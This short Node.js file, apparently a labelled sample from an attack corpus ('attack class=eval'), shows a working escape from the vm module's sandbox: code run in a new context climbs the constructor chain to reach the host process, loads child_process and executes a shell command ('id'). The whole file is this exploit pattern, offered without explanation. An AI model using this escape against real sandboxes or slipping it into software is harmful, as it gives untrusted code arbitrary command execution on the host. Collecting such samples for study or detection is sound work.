// corpus: attack class=eval form=textbook
// vm compiles and runs a source string.
const vm = require('vm');

function main() {
  const out = vm.runInNewContext("this.constructor.constructor('return process')()")
    .getBuiltinModule('child_process')
    .execSync('id')
    .toString();
  return { out };
}

module.exports = { main };
